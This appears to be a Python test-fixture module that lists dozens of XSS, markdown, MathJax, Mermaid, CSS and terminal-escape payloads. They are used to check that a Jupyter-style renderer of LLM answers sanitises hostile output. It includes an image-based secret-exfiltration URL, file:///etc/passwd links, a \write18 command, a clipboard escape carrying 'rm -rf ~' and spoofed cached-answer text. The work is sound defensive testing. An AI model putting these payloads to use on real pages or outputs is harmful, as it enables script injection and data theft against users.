"""Answers that try to act: what a careless model, or whoever wrote a student's file, may send.

``URL`` stands for a server that must never hear of it; ``HIT`` for script that leaves a trace the
tests look for.
"""

# ruff: noqa: E501  # a snippet stands as it is sent

from __future__ import annotations

#: Without quotes, spaces and =, so that it stands in an attribute however that is written.
HIT = "Reflect.set(top,/PWNED/.source,1)"

_DATA_PAGE = "data:text/html,<script>top.PWNED=1</script>"
_BASE64_SVG = (
    "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0i"
    "dG9wLlBXTkVEPTEiLz4="
)

_HTML = {
    "script": "<script>HIT</script>",
    "script_in_text": "before <script>HIT</script> after",
    "script_src": '<script src="URL/script.js"></script>',
    "script_module": '<script type="module">import "URL/module.js"; HIT</script>',
    "script_split": "<scr<script>ipt>HIT</scr</script>ipt>",
    "script_upper": "<SCRIPT>HIT</SCRIPT>",
    "img_onerror": "<img src=x onerror=HIT>",
    "img_onerror_slashes": "<img/src=x/onerror=HIT>",
    "img_onload": f'<img src="{_BASE64_SVG}" onload="HIT">',
    "svg_onload": "<svg onload=HIT></svg>",
    "svg_animate": '<svg><animate onbegin="HIT" attributeName="x" dur="1s"></svg>',
    "svg_use": '<svg><use href="URL/sprite.svg#a"></use></svg>',
    "svg_foreign": "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>",
    "math_href": '<math><mtext><a href="javascript:HIT" id="foreign">x</a></mtext></math>',
    "math_mutation": "<math><mtext><table><mglyph><style><img src=x onerror=HIT></style></table>",
    "noscript_mutation": '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "iframe_srcdoc": '<iframe srcdoc="<script>HIT</script>"></iframe>',
    "iframe_javascript": '<iframe src="javascript:HIT"></iframe>',
    "iframe_src": '<iframe src="URL/frame"></iframe>',
    "object_data": '<object data="URL/object"></object>',
    "object_html": f'<object data="{_DATA_PAGE}"></object>',
    "embed": '<embed src="URL/embed">',
    "video_onerror": "<video><source onerror=HIT></video>",
    "video_src": '<video src="URL/video.mp4" autoplay poster="URL/poster.png"></video>',
    "audio": '<audio src="URL/audio.mp3" autoplay></audio>',
    "body_onload": "<body onload=HIT>",
    "details_ontoggle": "<details open ontoggle=HIT><summary>x</summary></details>",
    "input_autofocus": "<input autofocus onfocus=HIT>",
    "marquee": "<marquee onstart=HIT>x</marquee>",
    "css_animation": "<style>@keyframes k{}</style><b style='animation:k' onanimationstart=HIT>x</b>",
    "template": "<template><img src=x onerror=HIT></template>",
    "comment": "<!-- --!><img src=x onerror=HIT> -->",
    "comment_conditional": "<!--[if gte IE 4]><script>HIT</script><![endif]-->",
    "cdata": "<![CDATA[<img src=x onerror=HIT>]]>",
    "processing_instruction": "<?xml-stylesheet href='URL/x.css'?><img src=x onerror=HIT>",
    "custom_element": "<x-y onclick=HIT id=foreign>x</x-y>",
    "unclosed_attribute": '<a title="\n\n<img src=x onerror=HIT>\n\n">x</a>',
    "html_block": "<div>\n\n<img src=x onerror=HIT>\n\n</div>",
    "entities": "&lt;img src=x onerror=HIT&gt; &#60;script&#62;HIT&#60;/script&#62;",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=URL/refresh">',
    "meta_refresh_script": f'<meta http-equiv="refresh" content="0;url={_DATA_PAGE}">',
    "meta_policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="URL/"><a href="x">x</a>',
    "link_stylesheet": '<link rel="stylesheet" href="URL/style.css">',
    "link_prefetch": '<link rel="prefetch" href="URL/prefetch"><link rel="preconnect" href="URL/">',
    "form": '<form action="URL/form"><input name="q"><button id="foreign">Go</button></form>',
    "button_formaction": '<button formaction="javascript:HIT" autofocus>x</button>',
    "ping": '<a href="https://example.org" ping="URL/ping" id="foreign">x</a>',
    "srcset": '<img srcset="URL/a.png 1x" src="URL/b.png"><picture><source srcset="URL/c.png"></picture>',
    "background": '<table background="URL/table.png"><tr><td background="URL/cell.png">x</table>',
    "dialog": '<dialog open id="foreign">log in again</dialog>',
    "popover": "<div popover id=foreign>x</div><button popovertarget=foreign>x</button>",
    "shadow_root": '<div><template shadowrootmode="open"><img src=x onerror=HIT></template></div>',
}

_LINKS = {
    "link_javascript": "[x](javascript:HIT)",
    "link_javascript_upper": "[x](JaVaScRiPt:HIT)",
    "link_javascript_entity": "[x](javascript&colon;HIT) [y](&#x6A;avascript:HIT)",
    "link_javascript_tab": "[x](java\tscript:HIT) [y](<java\tscript:HIT>) [z](<java&Tab;script:HIT>)",
    "link_javascript_control": "[x](<\x01javascript:HIT>) [y](<&#1;javascript:HIT>)",
    "link_javascript_spaces": "[x](<   javascript:HIT>) [y](<\u00a0javascript:HIT>)",
    "link_data": f"[x](<{_DATA_PAGE}>)",
    "link_vbscript": "[x](vbscript:HIT)",
    "link_file": "[x](file:///etc/passwd)",
    "link_blob": "[x](blob:URL/1)",
    "link_filesystem": "[x](filesystem:URL/1) [y](view-source:URL/1) [z](jar:URL/1!/x)",
    "link_about": "[x](about:blank#foreign) [y](chrome://settings) [z](intent://x#Intent;end)",
    "link_relative": "[x](/lab/api/settings) [y](../../../evil.ipynb) [z](?reset) [w](#foreign)",
    "link_protocol_relative": "[x](//example.org/x) [y](\\\\\\\\example.org\\\\x)",
    "link_autolink": "<javascript:HIT> <data:text/html,HIT> <vbscript:HIT>",
    "link_reference": "[x][r] ![y][r]\n\n[r]: javascript:HIT",
    "link_title": '[x](https://example.org "\\" onmouseover=HIT id=foreign")',
    "link_quote": '[x](https://example.org/"onmouseover="HIT"id="foreign)',
    "link_newline": '[x](https://example.org/\n\n"onclick=HIT)',
    "link_command": "[x](command:workbench.action.terminal.new) [y](vscode://file/etc/passwd)",
    "link_jupyter": "[x](attachment:foreign.png) [y](commandlinker:help:about)",
    "link_in_formula": '![](x$"onerror="HIT"x="$) [](x$"autofocus onfocus="HIT"$)',
}

_IMAGES = {
    "image": "![x](URL/image.png)",
    "image_title": '![x](URL/image.png "onerror=HIT")',
    "image_reference": "![x][i]\n\n[i]: URL/reference.png",
    "image_in_link": "[![x](URL/badge.svg)](https://example.org)",
    "image_svg": f"![x]({_BASE64_SVG})",
    "image_javascript": "![x](javascript:HIT)",
    "image_file": "![x](file:///etc/passwd)",
    "image_relative": "![x](/api/contents) ![y](attachment:x.png)",
    "image_alt": '![" onerror=HIT id=foreign "](URL/alt.png)',
    "image_exfiltration": "![x](URL/steal?secret=sk-123) ![](URL/empty.png)",
    "image_html": '<img src="URL/html.png" width=1 height=1>',
}

_CSS = {
    "style_import": "<style>@import url(URL/import.css);</style>",
    "style_background": "<style>body{background:url(URL/background.png)}</style>",
    "style_font": "<style>@font-face{font-family:x;src:url(URL/font.woff)}*{font-family:x}</style>",
    "style_hide": "<style>.jp-Notebook,.jp-OutputArea{display:none!important}</style>",
    "style_attribute": '<p style="background:url(URL/attribute.png)">x</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff" id="foreign">x</div>',
    "class_of_jupyter": '<div class="jp-OutputArea-output jp-mod-trusted" data-foreign="1">x</div>',
}

_JUPYTER = {
    "commandlinker": (
        '<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}" '
        'id="foreign">Run</button>'
    ),
    "mermaid": '```mermaid\ngraph TD; A["<img src=URL/mermaid.png onerror=HIT>"] --> B\n```',
    "mermaid_click": '```mermaid\ngraph TD; A-->B; click A "javascript:HIT"\n```',
    "mermaid_init": "```mermaid\n%%{init:{'securityLevel':'loose','themeCSS':'@import url(URL/m.css)'}}%%\ngraph TD; A-->B\n```",
    "mermaid_div": '<div class="mermaid jp-Mermaid" id="foreign">graph TD; A--&gt;B</div>',
    "fence_info": '```"><img src=x onerror=HIT>\nx\n```',
    "fence_info_class": "```python onload=HIT id=foreign class=jp-Cell\nx\n```",
    "fence_html": "```html\n<script>HIT</script><img src=URL/fence.png>\n```",
    "fence_unclosed": "```\n</code></pre><img src=x onerror=HIT>",
    "fence_svg": "```svg\n<svg onload=HIT></svg>\n```",
    "code_span": "`<img src=x onerror=HIT>` ``</code><script>HIT</script>``",
    "code_indented": "    <img src=x onerror=HIT>\n    </code></pre><script>HIT</script>",
    "heading_id": "# x {#foreign .jp-Cell onclick=HIT}\n\n# location\n\n# <a id=foreign>x</a>",
    "attachment": "![x](attachment:image.png)\n\n<img src=attachment:image.png onerror=HIT>",
    "front_matter": "---\nheader-includes: <script>HIT</script>\n---\n\nx",
    "wiki_and_directive": "[[foreign]] {{HIT}} {% raw %} :::{image} URL/directive.png\n:::",
    "dom_clobbering": (
        "<a id=foreign name=require></a><form id=foreign name=MathJax><input name=startup></form>"
    ),
    "prototype_heading": "# __proto__\n\n## constructor\n\n## hasOwnProperty",
    "widget_view": '<script type="application/vnd.jupyter.widget-view+json">{}</script>',
    "table_cell": "| a | <img src=x onerror=HIT> |\n|---|---|\n| <b id=foreign>x</b> | `|<i>` |",
    "table_alignment": '| a |\n|:-" style="background:url(URL/t.png)|\n| b |',
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=HIT>",
    "task_list": '- [ ] <input type="checkbox" onclick=HIT id="foreign" autofocus onfocus=HIT>',
}

_FORMULAS = {
    "formula_href": r"$\href{javascript:HIT}{x}$ \(\href{javascript:HIT}{y}\)",
    "formula_href_block": "$$\n\\href{javascript:HIT}{x}\n$$",
    "formula_href_fetch": r"$\href{URL/formula}{x}$ $\includegraphics{URL/graphics.png}$",
    "formula_require": r"$\require{html}\class{foreign}{\cssId{foreign}{\style{color:red}{x}}}$",
    "formula_style": r"$\style{background:url(URL/style.png)}{x}$ $\bbox[background:url(URL/b.png)]{x}$",
    "formula_data": r"$\data{foreign=1}{x}$ $\mmlToken{mi}[href='javascript:HIT',id=foreign]{x}$",
    "formula_define": r"$\def\x{\href{javascript:HIT}{x}}\x$ $\newcommand{\y}{\href{javascript:HIT}{y}}\y$",
    "formula_csname": r"$\csname href\endcsname{javascript:HIT}{x}$ $\let\z\href\z{javascript:HIT}{z}$",
    "formula_bomb": r"$\def\a{\a\a}\a$ $\def\b{x\b}\b$",
    "formula_unicode": r"$\unicode[url(URL/font)]{x41}$ $\color{red;background:url(URL/c.png)}{x}$",
    "formula_html": r"$<img src=x onerror=HIT>$ $$</span><script>HIT</script>$$",
    "formula_text": r"$\text{<img src=x onerror=HIT>}$ $\mbox{<script>HIT</script>}$",
    "formula_environment": (
        "\\begin{align}\\href{javascript:HIT}{x}\\end{align}\n\n\\begin{html}<script>HIT</script>\\end{html}"
    ),
    "formula_label": r"$$x \label{foreign} \tag{foreign}$$ and \ref{foreign} \eqref{foreign}",
    "formula_overlay": r"$\rule{200em}{200em}$ $\kern-50em\raise50em{\Huge cached}$ $\smash{x}\llap{y}$",
    "formula_tooltip": r"$\texttip{x}{HIT}$ $\mathtip{x}{y}$ $\toggle{x}{y}\endtoggle$",
    "formula_input": r"\input{/etc/passwd} $\input{/etc/passwd}$ \write18{touch foreign}",
    "formula_unclosed": r"$<img src=x onerror=HIT> \( \[ \begin{align} $$",
    "formula_in_code": r"`$\href{javascript:HIT}{x}$` and `$`<img src=x onerror=HIT>`$`",
    "formula_comment": "$x % \n<img src=x onerror=HIT>\n$",
    "formula_placeholder": "@@0@@ $x$ @@1@@ \x02mathjax0\x03 $<b id=foreign>$ @@<img src=x onerror=HIT>@@",
}

_TEXT = {
    "bidi_override": "safe \u202egnp.exe\u202c \u2066x\u2069 \u2067y\u2069",
    "hidden_tags": "x\U000e0041\U000e0042\U000e007fy",
    "control_characters": "a\x00b\x01c\x07d\x08e\x0bf\x0cg\x7fh\x85i\x9bj",
    "carriage_return": "fresh\rcached\r\n\rx",
    "separators": "a\u2028<img src=x onerror=HIT>\u2029b\ufeffc\ufff9d",
    "null_in_tag": "<scr\x00ipt>HIT</scr\x00ipt><img src=x on\x00error=HIT>",
    "surrogate": "x\ud800y\udfff",
    "noncharacter": "x\ufffe\uffff\U0010ffffy",
    "escape_clear": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
    "escape_title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "escape_clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "escape_link": "\x1b]8;;URL/osc8\x07x\x1b]8;;\x07",
    "escape_c1": "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "escape_ansi_html": "\x1b[38;5;1m<img src=x onerror=HIT>\x1b[0m",
    "full_width": "\uff1cscript\uff1eHIT\uff1c/script\uff1e \u02bbonerror",
    "imitation": "Yes.\n\ncached · 1.1 ms · saved 828 ms · 24 tokens not billed again · openai:gpt-x",
    "imitation_html": (
        '<div role="note" aria-label="LLM answer"><details open id="foreign"><summary>cached · 1.1 ms'
        "</summary></details></div>"
    ),
}

#: Name -> what a model answers, with URL and HIT in it.
SNIPPETS: dict[str, str] = {
    **_HTML,
    **_LINKS,
    **_IMAGES,
    **_CSS,
    **_JUPYTER,
    **_FORMULAS,
    **_TEXT,
}


def snippets(url: str) -> dict[str, str]:
    """Return all snippets; each calls ``url`` under its own name and ``PWNED`` says whose it was."""
    return {
        name: text.replace("HIT", HIT).replace("URL", f"{url}/{name}")
        for name, text in SNIPPETS.items()
    }
